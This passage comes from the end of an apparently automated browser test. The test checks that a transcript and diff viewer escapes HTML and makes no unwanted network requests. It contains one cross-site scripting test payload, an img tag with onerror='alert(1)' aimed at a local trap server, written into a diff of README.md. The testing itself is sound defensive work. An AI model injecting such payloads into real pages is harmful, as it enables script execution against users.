        diff: `--- a/README.md\n+++ b/README.md\n@@ -1,1 +1,2 @@\n # sample\n+<img src="http://127.0.0.1:${port}/diff.png" onerror="alert(1)">\n`,
        paths: ["README.md"],
      });
      const link = page.locator(".transcript .text .image-link");
      await link.waitFor();
      expect(await link.getAttribute("href")).toBe(url);
      expect(await page.locator(".transcript .text").last().textContent()).toContain("Here is the chart: [image: chart] and <img src=");
      await page.locator('.diff-file[data-path="README.md"] .d2h-ins').last().waitFor();
      expect(await page.locator('.diff-file[data-path="README.md"] .d2h-ins').last().textContent()).toContain(`<img src="http://127.0.0.1:${port}/diff.png"`);
      // Wait until the page has drawn everything and a same-origin round trip has completed after it.
      await page.evaluate(async () => void (await fetch("/api/health")).status);
      expect(await page.evaluate(() => document.images.length)).toBe(0);
      expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
      expect(hits).toEqual([]);
      expect(problems).toEqual([]);
    } finally {
      await close();
      await new Promise((resolve) => trap.close(resolve));
    }
  });
});
